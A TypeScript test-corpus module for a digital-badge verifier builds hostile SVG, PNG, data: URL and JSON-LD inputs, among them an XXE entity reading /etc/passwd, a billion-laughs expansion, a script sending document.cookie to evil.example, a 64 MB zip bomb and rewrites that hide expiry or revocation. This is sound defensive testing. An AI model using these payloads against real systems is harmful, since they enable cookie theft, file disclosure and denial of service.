/**
 * Corpus cases on what carries a badge: SVG with external entities, scripts and foreign
 * objects; PNG with oversized, corrupt, compressed or duplicated chunks; enveloped credentials
 * and data: URLs nested too deep; Data Integrity credentials rewritten into equivalent JSON-LD,
 * or too complex to canonicalize.
 */
import { deflateSync } from 'node:zlib';
import { base58 } from '@scure/base';
import { bakePng, bakeSvg } from '../../../src/lib/baking/index.ts';
import { ed25519Multibase, signDataIntegrity } from '../../../src/lib/ob3/sign-data-integrity.ts';
import { hashData, SUITES } from '../../../src/lib/verify/data-integrity/suites.ts';
import { chunk, concat, iTXt, tEXt, tinyPng } from '../../../test/unit/baking/png-helpers.ts';
import { expectVerdict as v, type CorpusCase } from './case.ts';
import { header, ISSUED, ISSUER, jws, keyOf, urls, type Key, type World } from './world.ts';

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120" viewBox="0 0 120 120"><title>Badge</title><circle cx="60" cy="60" r="50" fill="#1d5b8f"/></svg>';
const CRED = 'https://www.w3.org/2018/credentials#';
const XSD_DATETIME = 'http://www.w3.org/2001/XMLSchema#dateTime';

async function ed25519Sign(k: Key, data: Uint8Array): Promise<string> {
  const key = await crypto.subtle.importKey(
    'jwk',
    { kty: 'OKP', crv: 'Ed25519', x: String(k.privateJwk.x), d: String(k.privateJwk.d) },
    { name: 'Ed25519' },
    false,
    ['sign'],
  );
  return `z${base58.encode(new Uint8Array(await crypto.subtle.sign({ name: 'Ed25519' }, key, data as BufferSource)))}`;
}

export async function containerCases(w: World): Promise<CorpusCase[]> {
  const ed = keyOf(w.keys, 'riverbend-ed25519');
  const evil = keyOf(w.keys, 'attacker-ed25519');
  const genuine = await jws(header(ISSUER, ed), w.payload(await w.credential()), ed);
  const forged = await jws(
    { alg: 'EdDSA', jwk: evil.publicJwk, typ: 'JWT' },
    w.payload(await w.credential()),
    evil,
  );
  const baked = bakeSvg(SVG, genuine);
  const svgWith = (markup: string) => baked.replace('<title>', `${markup}<title>`);
  const svgCase = (
    name: string,
    description: string,
    content: string,
    expect: CorpusCase['expect'],
  ): CorpusCase => ({ id: `svg/${name}`, description, content, ext: 'svg', expect });
  const pngCase = (
    name: string,
    description: string,
    content: Uint8Array,
    expect: CorpusCase['expect'],
  ): CorpusCase => ({ id: `png/${name}`, description, content, ext: 'png', expect });
  const ok = v('verified', 'format', 'pass');
  const unreadable = (code = 'ERR_UNREADABLE') => v('unreadable', 'format', 'fail', code);
  const withLength = (c: Uint8Array, length: number) => {
    const out = c.slice();
    new DataView(out.buffer).setUint32(0, length);
    return out;
  };
  const badCrc = iTXt('openbadgecredential', genuine);
  badCrc[badCrc.length - 1] = (badCrc[badCrc.length - 1] ?? 0) ^ 0xff;
  const envelope = (token: string) =>
    JSON.stringify({
      '@context': ['https://www.w3.org/ns/credentials/v2'],
      type: ['EnvelopedVerifiableCredential'],
      id: `data:application/vc+jwt,${token}`,
    });

  const vm = `${urls.profile(ISSUER)}#${ed25519Multibase(ed.privateJwk)}`;
  const di = (await signDataIntegrity(await w.credential(), ed.privateJwk, vm, ISSUED)) as Record<
    string,
    unknown
  >;
  const expired = (await signDataIntegrity(
    await w.credential({ validUntil: new Date('2026-01-01T00:00:00Z') }),
    ed.privateJwk,
    vm,
    ISSUED,
  )) as Record<string, unknown>;
  const revoked = (await signDataIntegrity(
    await w.credential({ statusIndex: 9 }),
    ed.privateJwk,
    vm,
    ISSUED,
  )) as Record<string, unknown>;
  const { validUntil, ...noUntil } = expired;
  const { credentialStatus, ...noStatus } = revoked;
  const contexts = di['@context'] as string[];
  const evilDid = `did:key:${ed25519Multibase(evil.privateJwk)}`;
  const own = {
    ...(await w.credential({ noStatus: true })),
    issuer: { id: evilDid, type: ['Profile'], name: 'Self' },
  };
  const odd = {
    type: 'DataIntegrityProof',
    cryptosuite: 'constructor',
    created: '2025-03-01T12:00:00Z',
    verificationMethod: `${evilDid}#${evilDid.slice(8)}`,
    proofPurpose: 'assertionMethod',
  };
  const oddSigned = {
    ...own,
    proof: [
      { ...odd, proofValue: await ed25519Sign(evil, await hashData(SUITES['eddsa-rdfc-2022'], own, odd)) },
    ],
  };
  const proof = (di.proof as Record<string, unknown>[])[0] ?? {};
  const diCase = (
    name: string,
    description: string,
    doc: unknown,
    expect: CorpusCase['expect'],
  ): CorpusCase => ({ id: `jsonld/${name}`, description, content: JSON.stringify(doc), ext: 'json', expect });
  const formFails = v('invalid', 'proof', 'fail', 'ERR_JSONLD_FORM');

  return [
    // SVG
    svgCase(
      'external-entity',
      'An internal DTD subset declaring an external entity (XXE), used in the body.',
      `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svgWith('<desc>&xxe;</desc>')}`,
      unreadable(),
    ),
    svgCase(
      'billion-laughs',
      'Nested entity expansion.',
      `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${svgWith('<desc>&c;</desc>')}`,
      unreadable(),
    ),
    svgCase(
      'undeclared-entity',
      'An entity reference with no declaration.',
      svgWith('<desc>&xxe;</desc>'),
      unreadable(),
    ),
    svgCase(
      'external-dtd',
      'A DOCTYPE naming an external DTD by URL: never loaded, the badge verifies.',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">${baked}`,
      ok,
    ),
    svgCase(
      'script-and-handlers',
      'Scripts, an onload handler and a javascript: link around a genuine badge: parsed, never run.',
      svgWith(
        '<script>fetch("https://evil.example/?"+document.cookie)</script><a href="javascript:alert(1)"><text onmouseover="alert(2)">x</text></a>',
      ).replace('<svg ', '<svg onload="alert(3)" '),
      ok,
    ),
    svgCase(
      'foreign-object',
      'An HTML iframe inside foreignObject around a genuine badge.',
      svgWith(
        '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe></div></foreignObject>',
      ),
      ok,
    ),
    svgCase(
      'stylesheet-pi',
      'An xml-stylesheet processing instruction pointing elsewhere.',
      `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${baked}`,
      ok,
    ),
    svgCase(
      'forged-credential-first',
      'A forged credential element before the genuine one: the first is what counts, and it fails.',
      bakeSvg(SVG, forged).replace('</svg>', `<openbadges:credential verify="${genuine}"/></svg>`),
      v('invalid', 'key', 'fail', 'ERR_KEY_NOT_PUBLISHED'),
    ),
    svgCase(
      'genuine-first-forged-second',
      'The genuine credential, then a forged one: the genuine one verifies, and the report names the other as not checked.',
      baked.replace('</svg>', `<openbadges:credential verify="${forged}"/></svg>`),
      ok,
    ),
    svgCase(
      'prefix-bound-elsewhere',
      'An openbadges:credential element whose prefix is bound to another namespace.',
      SVG.replace(
        '<title>',
        `<openbadges:credential xmlns:openbadges="https://example.org/not-open-badges" verify="${genuine}"/><title>`,
      ),
      unreadable('ERR_NOT_A_BADGE'),
    ),
    svgCase(
      'credential-in-comment',
      'The credential element only inside an XML comment.',
      SVG.replace(
        '<title>',
        `<!-- <openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" verify="${genuine}"/> --><title>`,
      ),
      unreadable('ERR_NOT_A_BADGE'),
    ),
    svgCase(
      'deep-nesting',
      'Elements nested 300 deep (the limit is 256).',
      svgWith(`${'<g>'.repeat(300)}${'</g>'.repeat(300)}`),
      unreadable(),
    ),
    // PNG
    pngCase(
      'compressed-itxt',
      'A genuine badge in a zlib-compressed iTXt chunk (the specs forbid compression): read, bounded, and said so.',
      tinyPng(iTXt('openbadgecredential', genuine, { compressed: true })),
      ok,
    ),
    pngCase(
      'zip-bomb',
      'A compressed iTXt chunk that inflates to 64 MB of zeros.',
      tinyPng(
        chunk(
          'iTXt',
          concat(
            new TextEncoder().encode('openbadgecredential'),
            Uint8Array.of(0, 1, 0, 0, 0),
            deflateSync(new Uint8Array(64 * 1024 * 1024), { level: 9 }),
          ),
        ),
      ),
      unreadable(),
    ),
    pngCase(
      'declared-length-huge',
      'A chunk that declares 2 GB of data.',
      tinyPng(withLength(iTXt('openbadgecredential', genuine), 0x7ffffff0)),
      unreadable(),
    ),
    pngCase(
      'declared-length-over-2-31',
      'A chunk length over 2^31 - 1.',
      tinyPng(withLength(iTXt('openbadgecredential', genuine), 0x80000010)),
      unreadable(),
    ),
    pngCase('bad-crc', 'The baked chunk with a wrong CRC.', tinyPng(badCrc), unreadable()),
    pngCase(
      'payload-over-limit',
      'An uncompressed payload just over the 1 MiB limit.',
      tinyPng(iTXt('openbadgecredential', `${genuine}${'A'.repeat(1_050_000)}`)),
      unreadable(),
    ),
    pngCase(
      'forged-chunk-first',
      'A forged badge chunk before the genuine one.',
      tinyPng(iTXt('openbadgecredential', forged), iTXt('openbadgecredential', genuine)),
      v('invalid', 'key', 'fail', 'ERR_KEY_NOT_PUBLISHED'),
    ),
    pngCase(
      'genuine-chunk-first',
      'The genuine chunk, then a forged one: the report names the other as not checked.',
      tinyPng(iTXt('openbadgecredential', genuine), iTXt('openbadgecredential', forged)),
      ok,
    ),
    pngCase(
      'forged-after-iend',
      'A forged chunk after IEND (outside the image): ignored.',
      concat(bakePng(tinyPng(), genuine), iTXt('openbadgecredential', forged)),
      ok,
    ),
    pngCase(
      'ob3-keyword-in-text-chunk',
      'The OB 3.0 keyword in a tEXt chunk (OB 3.0 requires iTXt): not a baked badge.',
      tinyPng(tEXt('openbadgecredential', genuine)),
      unreadable('ERR_NOT_A_BADGE'),
    ),
    // Envelopes and data: URLs
    {
      id: 'envelope/twice',
      description: 'An enveloped credential inside an enveloped credential: allowed (two levels).',
      content: envelope(envelope(genuine)),
      ext: 'json',
      expect: ok,
    },
    {
      id: 'envelope/three-times',
      description: 'Enveloped three times: deeper than allowed.',
      content: envelope(envelope(envelope(genuine))),
      ext: 'json',
      expect: unreadable(),
    },
    {
      id: 'data-url/nested-bomb',
      description: '6,000 nested data: URLs (each layer used to be unwrapped recursively).',
      content: `${'data:,'.repeat(6000)}${genuine}`,
      ext: 'txt',
      expect: unreadable(),
    },
    {
      id: 'data-url/nested-base64',
      description: 'A base64 data: URL holding another data: URL.',
      content: `data:text/plain;base64,${Buffer.from(`data:application/jwt,${genuine}`).toString('base64')}`,
      ext: 'txt',
      expect: unreadable(),
    },
    {
      id: 'data-url/png',
      description: 'A baked PNG as a base64 data: URL: one honest wrapper, verified.',
      content: `data:image/png;base64,${Buffer.from(bakePng(tinyPng(), genuine)).toString('base64')}`,
      ext: 'txt',
      expect: ok,
    },
    {
      id: 'data-url/bad-percent',
      description: 'A data: URL with broken percent-encoding.',
      content: `data:,%E0%A4%ZZ${genuine}`,
      ext: 'txt',
      expect: unreadable(),
    },
    // Data Integrity: equivalent JSON-LD that would hide what the checks read
    diCase('genuine', 'The genuine Data Integrity badge (the baseline).', di, ok),
    diCase(
      'expired-valid-until-in-array',
      'An expired badge with validUntil wrapped in an array: same signed graph, but the date used to vanish from the checks.',
      { ...expired, validUntil: [validUntil] },
      formFails,
    ),
    diCase(
      'expired-valid-until-value-object',
      'validUntil as a JSON-LD value object.',
      { ...expired, validUntil: { '@value': validUntil, '@type': XSD_DATETIME } },
      formFails,
    ),
    diCase(
      'expired-valid-until-iri-key',
      'validUntil named by its full IRI.',
      { ...noUntil, [`${CRED}validUntil`]: { '@value': validUntil, '@type': XSD_DATETIME } },
      formFails,
    ),
    diCase(
      'expired-inline-context-rename',
      'validUntil renamed to "expires" by an inline context.',
      {
        ...noUntil,
        '@context': [...contexts, { expires: { '@id': `${CRED}validUntil`, '@type': XSD_DATETIME } }],
        expires: validUntil,
      },
      formFails,
    ),
    diCase(
      'revoked-status-iri-key',
      'A revoked badge with credentialStatus named by its full IRI (the status check used to find no entry).',
      { ...noStatus, [`${CRED}credentialStatus`]: credentialStatus },
      formFails,
    ),
    diCase(
      'cryptosuite-constructor',
      'A self-signed proof whose cryptosuite is "constructor" (an Object.prototype name).',
      oddSigned,
      v('unverified', 'proof', 'warn', 'ERR_PROOF_UNSUPPORTED'),
    ),
    diCase(
      'complexity-bomb',
      '3,000 evidence entries (6,000 objects and arrays) and 8 copies of the proof: canonicalizing it would take seconds per proof.',
      {
        ...di,
        evidence: Array.from({ length: 3000 }, (_, i) => ({ type: ['Evidence'], name: `e${i}` })),
        proof: Array.from({ length: 8 }, () => proof),
      },
      v('unverified', 'proof', 'warn', 'ERR_TOO_COMPLEX'),
    ),
    diCase(
      'unknown-context',
      'A context URL the verifier does not bundle: never fetched, so "cannot check".',
      { ...di, '@context': [...contexts, 'https://evil.example/context.jsonld'] },
      v('unverified', 'proof', 'warn', 'ERR_CONTEXT_UNKNOWN'),
    ),
    diCase(
      'undefined-term',
      'A member no context defines (JSON-LD safe mode).',
      { ...di, favouriteColour: 'blue' },
      v('invalid', 'proof', 'fail', 'ERR_JSON_MALFORMED'),
    ),
    diCase(
      'proof-purpose-authentication',
      'A proof made for authentication, not assertion.',
      { ...di, proof: [{ ...proof, proofPurpose: 'authentication' }] },
      v('invalid', 'proof', 'fail', 'ERR_SIGNATURE_INVALID'),
    ),
  ];
}
